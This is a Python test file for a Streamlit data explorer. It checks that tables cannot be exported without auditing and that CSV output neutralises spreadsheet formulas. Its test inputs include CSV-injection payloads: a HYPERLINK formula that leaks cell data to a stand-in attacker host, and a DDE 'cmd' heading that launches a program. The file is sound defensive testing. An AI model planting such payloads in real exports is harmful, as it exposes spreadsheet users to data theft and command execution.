"""Issue 15, item 7: no table or file leaves the explorer without the audit and the formula guard.

The browser half (the toolbar shows no download, no /media URL before a click, the framing
headers) is in tests/test_hostile_exports_browser.py.
"""

from __future__ import annotations

import ast
import csv
import io

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from jigsaw import audit
from jigsaw.spreadsheet_safe import safe_csv
from tests.builders import folder_with, load, referral
from tests.downloads import click
from tests.explorer_app import ANALYST, APP, register
from tests.paths import REPO_ROOT

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
TABLE_CALLS = {"dataframe", "data_editor", "table"}


def _parsed(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_every_table_in_the_explorer_goes_through_the_helper_that_switches_browser_export_off():
    """A table drawn with st.dataframe directly would get the browser's own CSV download back."""
    direct = []
    for path in sorted((REPO_ROOT / "explorer").rglob("*.py")):
        if path.name == "tables.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in TABLE_CALLS:
                direct.append(f"{path.relative_to(REPO_ROOT)}:{node.lineno}")
    assert direct == []
    config = (REPO_ROOT / ".streamlit" / "config.toml").read_text()
    assert "disableDataExport = true" in config


def test_a_cell_or_heading_a_spreadsheet_would_run_is_neutralised():
    frame = pd.DataFrame(
        {"name": FORMULAS, "=cmd|' /C calc'!A0": ["x"] * len(FORMULAS), "names": [[f, "ok"] for f in FORMULAS]}
    )
    heading, *rows = _parsed(safe_csv(frame))
    assert heading[1].startswith("'=")
    for row, formula in zip(rows, FORMULAS, strict=True):
        assert row[0] == "'" + formula and row[2].startswith("'" + formula)


@pytest.mark.neo4j
def test_the_query_csv_exists_only_after_a_click_that_is_audited_first_and_is_formula_safe(
    explorer_env, graph, db, tmp_path, deferred
):
    load(graph, db, folder_with(tmp_path / "in", mash=[referral("CSV-1", "Amelia Hughes", "2009-02-02")]), tmp_path)
    # Loads refuse such names; the export must not rely on that (a package, an older load, a hand edit).
    graph.execute_query("MATCH (m:Mention) SET m.name = $name", name=FORMULAS[0], database_=db)
    at = AppTest.from_file(APP, default_timeout=60)
    register(ANALYST)  # every run checks the session's account against the store
    at.session_state["account"] = ANALYST
    at.session_state["purpose"] = "CASE-2024-001"
    at.run().switch_page("views/queries.py").run()
    at.selectbox[0].select("person_search").run()
    next(t for t in at.text_input if t.label.startswith("record_id")).input("CSV-1")
    next(b for b in at.button if b.label == "Run").click().run()
    assert not at.exception
    button = next(b for b in at.download_button if b.label == "Download CSV")
    # Before the click: a placeholder id, no URL, no file in the media store, no disclosure.
    assert button.proto.deferred_file_id and not button.proto.url
    assert not any(m._storage._files_by_id for m in deferred.values())
    assert not [e for e in audit.events(explorer_env) if e["kind"] == "disclosure"]
    content = click(deferred, button)
    disclosed = [e for e in audit.events(explorer_env) if e["kind"] == "disclosure"]
    assert len(disclosed) == 1 and disclosed[0]["action"] == "export csv"
    assert disclosed[0]["user"] == ANALYST.username and disclosed[0]["purpose"] == "CASE-2024-001"
    heading, *rows = _parsed(content)
    names = [row[heading.index("names")] for row in rows]
    assert names and all(n.startswith("'=HYPERLINK") for n in names)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
